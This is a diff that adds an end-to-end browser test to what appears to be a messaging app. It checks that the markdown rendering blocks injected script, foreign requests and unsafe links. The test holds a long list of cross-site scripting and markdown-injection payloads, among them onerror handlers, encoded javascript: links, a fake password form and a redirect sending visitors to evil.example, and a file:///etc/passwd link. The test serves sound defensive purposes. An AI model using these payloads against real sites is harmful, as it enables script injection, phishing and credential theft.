@@ -93,3 +93,112 @@ test('a long text of ordinary work is rendered, also after one that was given up
   const cells = rita.page.getByRole('cell', { name: 'lamp © 399' })
   await expect(cells).toHaveCount(2, { timeout: 30_000 })
 })
+
+const hit = "alert`1`;document.title='hit'"
+
+/** Each tries to run, to load, to take a name, to lead astray or to look like the page around it. */
+const probes = [
+  `<script>${hit}</script>`,
+  `<img src=x onerror="${hit}">`,
+  `<svg onload="${hit}"><script>${hit}</script></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.${hit}</script>"></iframe></foreignObject></svg>`,
+  `<math><mtext><table><mglyph><style><img src onerror="${hit}">`,
+  `<iframe src="javascript:${hit}"></iframe>`,
+  `<object data="data:text/html,<script>${hit}</script>"></object>`,
+  `<a href="javascript:${hit}" id="login" class="send-more" style="position:fixed;inset:0">x</a>`,
+  `<form action="https://evil.example"><input name="password"><button>Sign in</button></form>`,
+  `<style>* { display: none }</style>`,
+  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">`,
+  `<details open ontoggle="${hit}"><summary>x</summary></details>`,
+  `<div style="background:url(https://evil.example/pixel.png)" onmouseover="${hit}">x</div>`,
+  `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
+  `<!--><img src=x onerror="${hit}">-->`,
+  `[js](javascript:${hit})`,
+  `[js](JaVaScRiPt:${hit})`,
+  `[js](java\tscript:${hit})`,
+  `[js](&#106;avascript:${hit})`,
+  `[js](&#x6A;&#x61;vascript&colon;${hit})`,
+  `[js](%6Aavascript:${hit})`,
+  `[js](<javascript:${hit}>)`,
+  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+  `[vb](vbscript:msgbox)`,
+  `[file](file:///etc/passwd)`,
+  `[blob](blob:https://evil.example/1)`,
+  `<javascript:${hit}>`,
+  `<data:text/html,x>`,
+  `[ref]\n\n[ref]: javascript:${hit} "title"`,
+  `![pixel](https://evil.example/pixel.png)`,
+  `![pixel][p]\n\n[p]: https://evil.example/pixel.png`,
+  `![x](data:image/svg+xml,<svg onload=${hit}>)`,
+  `[![pixel](https://evil.example/pixel.png)](javascript:${hit})`,
+  `[x](https://evil.example" onmouseover="${hit})`,
+  `[x](https://evil.example 'a" onfocus="${hit}" autofocus tabindex="1')`,
+  `[out [in](https://evil.example/in)](https://evil.example/out)`,
+  `https://evil.example/"onmouseover="${hit}`,
+  `www.evil.example/<script>${hit}</script>`,
+  `mailto:a@evil.example?body=<script>`,
+  `Note[^__proto__] and[^constructor]\n\n[^__proto__]: one\n[^constructor]: <b>two</b>`,
+  `# location\n\n## "><img src=x onerror=${hit}>`,
+  `- [x] <input type="checkbox" onclick="${hit}">`,
+  `| <script>${hit}</script> | [x](javascript:${hit}) |\n| :--: | --- |\n| <td onclick=1> | b |`,
+  `\`\`\`js" onload="${hit}\nlet a\n\`\`\``,
+  `\`\`\`\n</code></pre><script>${hit}</script>\n\`\`\``,
+  `[https://bank.example](https://evil.example)`,
+  `@"><img src=x onerror=${hit}> @javascript`,
+]
+
+test('whatever a message is made of, it runs nothing, loads nothing and leads nowhere unseen', async ({
+  visit,
+  site,
+}) => {
+  expect(probes.length).toBeGreaterThanOrEqual(30)
+  const rita = await visit('Rita Reader')
+  const { page } = rita
+  const path = await ask(rita, site.address, probes.join('\n\n'), probes)
+  const elsewhere: string[] = []
+  page.on('request', (request) => {
+    const isOurs = ['data:', 'blob:', site.address].some((begin) => request.url().startsWith(begin))
+    if (!isOurs) elsewhere.push(request.url())
+  })
+  page.on('dialog', (dialog) => elsewhere.push(dialog.message()))
+  await page.goto(path)
+  const replies = page.getByRole('article', { name: 'reply by Rita Reader' })
+  await expect(replies).toHaveCount(probes.length)
+  await expect(page.locator('.markdown a').first()).toBeVisible()
+  const found = await page.locator('.markdown').evaluateAll((texts) => {
+    const all = texts.flatMap((text) => [...text.querySelectorAll('*')])
+    const allowed =
+      /^(a|abbr|b|blockquote|br|code|del|div|em|h[1-6]|hr|i|input|li|ol|p|pre|section|span|strong|sup|table|tbody|td|th|thead|tr|ul)$/
+    const links = all.filter((element) => element instanceof HTMLAnchorElement)
+    return {
+      texts: texts.length,
+      elements: all.map(({ localName }) => localName).filter((name) => !allowed.test(name)),
+      // A column of a table may say to which side it is set.
+      attributes: all.flatMap((element) =>
+        element
+          .getAttributeNames()
+          .map((name) => `${name}=${element.getAttribute(name)}`)
+          .filter(
+            (each) => /^(on|style|src|name=|action|form)/.test(each) && each !== 'style=text-align: center;',
+          ),
+      ),
+      ids: all.map(({ id }) => id).filter((id) => id !== '' && !id.startsWith('user-content-')),
+      inputs: all.filter((element) => element.matches('input:not([type=checkbox]:disabled)')).length,
+      schemes: [...new Set(links.map(({ href, protocol }) => (href === '' ? '' : protocol)))].sort(),
+      open: links.filter(
+        ({ rel, target }) => target !== '_blank' || !/(?=.*noopener)(?=.*nofollow)/.test(rel),
+      ).length,
+    }
+  })
+  expect(found).toEqual({
+    texts: probes.length + 1,
+    elements: [],
+    attributes: [],
+    ids: [],
+    inputs: 0,
+    schemes: ['', 'http:', 'https:', 'mailto:'],
+    open: 0,
+  })
+  expect(await page.title()).not.toContain('hit')
+  expect(elsewhere).toEqual([])
+})
